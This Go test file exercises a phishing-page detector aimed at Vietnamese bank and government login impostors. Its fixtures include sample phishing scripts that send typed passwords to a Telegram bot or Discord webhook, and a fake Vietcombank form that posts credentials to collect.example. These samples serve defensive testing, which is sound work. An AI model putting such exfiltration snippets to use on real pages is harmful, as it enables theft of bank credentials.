package fraud

import (
	"bytes"
	"slices"
	"strings"
	"testing"

	"khien/detector"
	"khien/sensor"
)

func TestReadPage(t *testing.T) {
	var p page
	f := func(body string, kinds secret, title string, bot bool) {
		t.Helper()
		p.read([]byte(body))
		if p.kinds != kinds || strings.TrimSpace(string(p.title)) != title || (p.exfil >= 0) != bot {
			t.Errorf("%.60q: kinds %b title %q bot %d", body, p.kinds, p.title, p.exfil)
		}
	}
	f(`<title>A</title><input type="password" name="x">`, secretPassword, "A", false)
	f(`<input placeholder="Mật khẩu"><INPUT NAME='otp'>`, secretPassword|secretOTP, "", false)
	f(`<input type=hidden name=password>`, 0, "", false)
	f(`<input name="so_cccd"><input name="ma_cvv"><input name=sothe>`, secretCitizen|secretCVV|secretCard, "", false)
	f(`<h1>Vietcombank</h1><img alt="logo VCB"><script>x="https://api.telegram.org/bot12:A"</script>`, 0, "Vietcombank logo VCB", true)
	f(`<title>unclosed <input type=password`, 0, "unclosed <input type=password", false)
	f(`not html`, 0, "", false)
}

func TestTitles(t *testing.T) {
	n := testNames(t)
	f := func(text, want string) {
		t.Helper()
		flat, _ := accents.fold(nil, []byte(text), 1000)
		got := ""
		if i := n.titles.find(flat); i >= 0 {
			got = n.brands[i].Name
		}
		if got != want {
			t.Errorf("%q: %q, want %q", text, got, want)
		}
	}
	f("Cổng Dịch Vụ Công Quốc Gia", "Cổng Dịch vụ công Quốc gia")
	f("Đăng nhập | Ngân hàng Ngoại thương Việt Nam", "Vietcombank")
	f("VIETCOMBANK", "Vietcombank")
	f("VNeID - định danh", "VNeID")
	f("a nice garden", "")
	f("", "")
}

func TestSecretByValue(t *testing.T) {
	f := func(value string, want secret) {
		t.Helper()
		if got := secretByValue([]byte(value)); got != want {
			t.Errorf("%s: %b, want %b", value, got, want)
		}
	}
	f("001099012345", secretCitizen)
	f("999099012345", 0)
	f("4111 1111 1111 1111", secretCard)
	f("4111111111111112", 0)
	f("0912345678", secretPhone)
	f("0212345678", 0)
	f("12345", 0)
	f("abc", 0)
	f("", 0)
	f(strings.Repeat("9", 40), 0)
}

func FuzzPage(f *testing.F) {
	f.Add([]byte(loginPage))
	f.Add([]byte("<input name=otp><form action='//x.y/z'>"))
	f.Add([]byte("<<input<</title><!--"))
	f.Fuzz(func(t *testing.T, body []byte) {
		var p, again page
		p.read(body)
		again.read([]byte(loginPage))
		again.read(body)
		// A page says the same whatever was read before it, and no more than the limits allow.
		if p.kinds != again.kinds || !bytes.Equal(p.title, again.title) || !bytes.Equal(p.text, again.text) || p.exfil != again.exfil || !slices.Equal(p.shape.bands(), again.shape.bands()) {
			t.Fatal("reading again gives something else")
		}
		if len(p.title) > maxTitle+1 || len(p.text) > maxPageText+1 || len(p.actions) > maxActions || len(p.assets) > maxAssets {
			t.Fatal("limits")
		}
	})
}

func FuzzSecrets(f *testing.F) {
	f.Add([]byte(`{"password":"x","n":{"otp":123}}`))
	f.Fuzz(func(t *testing.T, body []byte) {
		var s secrets
		s.json(body)
		if s.kinds == 0 && len(s.shown) > 0 {
			t.Fatalf("shown without a kind: %q", s.shown)
		}
		// Values are masked: behind each "=" there are asterisks alone.
		for part := range bytes.SplitSeq(s.shown, []byte("&")) {
			if i := bytes.LastIndexByte(part, '='); i >= 0 && len(bytes.Trim(part[i+1:], "*")) > 0 {
				t.Fatalf("not masked: %q", s.shown)
			}
		}
	})
}

func TestPlacesThatTakeWhatIsTyped(t *testing.T) {
	f := func(script, want string) {
		t.Helper()
		s := newScene(t)
		s.web("quiet-garden.example", "203.0.113.5", "GET", "/", `<html><title>Login</title><form><input type=password name=p><input name=otp></form><script>`+script+`</script></html>`)
		if got := s.grave(); got != want {
			t.Errorf("%s: %q, want %q", script, got, want)
		}
	}
	f(`fetch("https://api.telegram.org/bot1:AA/sendMessage?text="+p)`, "phishing_page")
	f(`fetch("https://discord.com/api/webhooks/1/abc",{method:"POST"})`, "phishing_page")
	f(`fetch("https://formspree.io/f/abc")`, "") // the contact form of a small honest site
	f(`fetch("/login")`, "")
}

func TestCopiedAssets(t *testing.T) {
	page := `<html><title>Đăng nhập</title><link rel=stylesheet href="https://www.vietcombank.com.vn/css/a.css"><img src="//www.vietcombank.com.vn/logo.png">
<form action="https://collect.example/x"><input name=user><input type=password name=pass><input name=otp></form>`
	s := newScene(t)
	s.web("quiet-garden.example", "203.0.113.5", "GET", "/", page)
	if s.grave() != "phishing_page" || s.found[0].Fraud.Brand != "Vietcombank" {
		t.Errorf("%q %+v", s.grave(), s.found)
	}
	s = newScene(t)
	s.web("quiet-garden.example", "203.0.113.5", "GET", "/", strings.NewReplacer("www.vietcombank.com.vn", "cdn.example", "https://collect.example", "").Replace(page))
	if s.grave() != "" {
		t.Errorf("%q", s.grave())
	}
	// A shop shows the bank's logo from the bank's host beside its own login: a password alone is asked for.
	s = newScene(t)
	s.web("quiet-garden.example", "203.0.113.5", "GET", "/", `<html><title>Giỏ hàng</title><img src="https://www.vietcombank.com.vn/logo.png"><form><input name=user><input type=password name=pass></form>`)
	if s.grave() != "" {
		t.Errorf("a shop: %q", s.grave())
	}
}

func TestStructureOfPages(t *testing.T) {
	sketch := func(body string) []string {
		var p page
		p.read([]byte(body))
		return p.shape.bands()
	}
	var kit strings.Builder
	for i := range 60 {
		kit.WriteString([]string{"<div>", "<p>text ", "<ul><li>", "<table><tr><td>", "<form><input name=a>", "<h2>", "<span>", "<a href=x>"}[(i*i+i/7)%8])
	}
	one := sketch(kit.String())
	two := sketch(strings.ReplaceAll(kit.String(), "text", "other words") + "<footer>")
	other := sketch(strings.Repeat("<section><article><figure><img src=a><figcaption><b><i><u>", 8) + "<nav><menu><dl><dt><dd><pre><code><em><strong>")
	share := func(a, b []string) (n int) {
		for i := range a {
			if i < len(b) && a[i] == b[i] {
				n++
			}
		}
		return n
	}
	if len(one) != shapeBands || share(one, two) == 0 || share(one, other) != 0 {
		t.Errorf("%v\n%v\n%v", one, two, other)
	}
	if sketch("<p>short<form><input name=otp>") != nil {
		t.Error("a page of a few tags has a structure")
	}
	// Two sites with the same kit are one campaign, whatever their names and addresses.
	s := newScene(t)
	s.web("quiet-garden.example", "203.0.113.5", "GET", "/", loginPage+kit.String())
	s.web("other-garden.example", "203.0.113.77", "GET", "/", loginPage+strings.ReplaceAll(kit.String(), "text", "words"))
	if f := s.told[len(s.told)-1]; f.Rule.ID != "fraud.campaign" || len(f.RelatedHosts) != 2 {
		t.Errorf("%s %q", f.Rule.ID, f.RelatedHosts)
	}
}

func TestIconAndCloaking(t *testing.T) {
	icon := strings.Repeat("\x00\x01icon", 10)
	show := func(s *scene, host, body string) {
		s.nums = map[sensor.Buffer]uint64{sensor.HTTPStatCode: 200}
		s.play(sensor.ProtoHTTP, "203.0.113.9", []sensor.Dir{sensor.ToServer, sensor.ToClient}, map[sensor.Buffer][]string{sensor.HTTPMethod: {"GET"},
			sensor.HTTPHost: {host}, sensor.HTTPURI: {"/favicon.ico"}, sensor.HTTPResponseBody: {body}})
		s.nums = nil
	}
	away := func(s *scene, host string) {
		s.nums = map[sensor.Buffer]uint64{sensor.HTTPStatCode: 302}
		s.play(sensor.ProtoHTTP, "203.0.113.9", []sensor.Dir{sensor.ToServer, sensor.ToClient}, map[sensor.Buffer][]string{sensor.HTTPMethod: {"GET"},
			sensor.HTTPHost: {host}, sensor.HTTPURI: {"/"}, sensor.HTTPLocation: {"https://www.vietcombank.com.vn/"}})
		s.nums = nil
	}
	s := newScene(t)
	name := suspicious(t, s)
	show(s, "www.vietcombank.com.vn", icon)
	show(s, name, icon)
	if s.grave() != "" {
		t.Fatalf("one kind of evidence: %s", s.grave())
	}
	away(s, name)
	if s.grave() != "" {
		t.Fatalf("a second name that sends everybody on: %s", s.grave())
	}
	s.web(name, "203.0.113.9", "GET", "/", `<form><input name=phone></form>`)
	if s.grave() != "lookalike_name" {
		t.Errorf("icon and cloaking: %q", s.grave())
	}
}

// TestRedirectChain: who is led to an impostor by a redirection was lured.
func TestRedirectChain(t *testing.T) {
	s := newScene(t)
	s.nums = map[sensor.Buffer]uint64{sensor.HTTPStatCode: 302}
	s.play(sensor.ProtoHTTP, "203.0.113.8", []sensor.Dir{sensor.ToServer, sensor.ToClient}, map[sensor.Buffer][]string{sensor.HTTPMethod: {"GET"},
		sensor.HTTPHost: {"go.example"}, sensor.HTTPURI: {"/1"}, sensor.HTTPLocation: {"http://vietcombank-khoathe.top/"}})
	s.nums = nil
	if len(s.found) != 1 || s.found[0].Rule.ID != "fraud.lure" || s.found[0].Severity >= detector.High || s.found[0].Domain != "vietcombank-khoathe.top" {
		t.Fatalf("%+v", s.found)
	}
}
